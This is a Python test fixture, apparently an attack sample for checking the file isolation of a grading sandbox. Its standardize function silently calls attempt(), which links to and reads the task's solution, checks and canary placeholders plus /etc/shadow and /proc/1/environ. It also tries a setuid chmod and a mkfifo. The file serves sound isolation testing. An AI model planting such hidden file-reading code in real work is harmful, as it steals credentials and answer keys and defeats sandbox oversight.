"""Lays symbolic and hard links to private files into its box and reads through them."""
# attack: lines=23; target=standardize; needs=isolation
# held by: the worker's file system holds Python, torch and its own box

import os

import torch

PRIVATE = ["{{solution}}", "{{checks}}", *"{{canaries}}".split(), "/etc/shadow", "/proc/1/environ"]


def attempt():
    for number, path in enumerate(PRIVATE):
        for link in (os.symlink, os.link):
            name = f"link-{number}-{link.__name__}"
            try:
                link(path, name)
                with open(name) as file:
                    print("BREACH: read", path, file.read(300))
            except OSError as error:
                print("tried:", link.__name__, error.strerror)
    try:
        os.chmod("basics.py", 0o6777)
        os.mkfifo("pipe")
    except OSError as error:
        print("tried: chmod, mkfifo", error.strerror)


def standardize(values):
    attempt()
    return values


def correlation(first, second):
    first, second = (row - row.mean(dim=-1, keepdim=True) for row in (first, second))
    return torch.nn.functional.cosine_similarity(first, second, dim=-1)


def fit_line(x, y):
    slope, offset = (x * y).mean() / (x * x).mean(), y.mean()
    return lambda at: slope * at + offset
